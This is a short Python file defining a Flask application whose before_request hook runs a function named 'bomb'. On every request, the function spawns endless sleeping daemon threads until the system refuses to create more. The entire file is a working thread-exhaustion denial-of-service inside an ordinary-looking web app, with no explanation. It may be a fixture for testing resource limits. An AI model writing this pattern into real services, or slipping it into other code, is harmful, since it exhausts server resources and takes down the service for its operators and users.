import threading
import time

from flask import Flask


def spin():
    while True:
        time.sleep(0.001)


def bomb():
    while True:
        try:
            threading.Thread(target=spin, daemon=True).start()
        except RuntimeError:
            return "full"


def create_app():
    app = Flask(__name__)
    app.before_request(bomb)
    return app
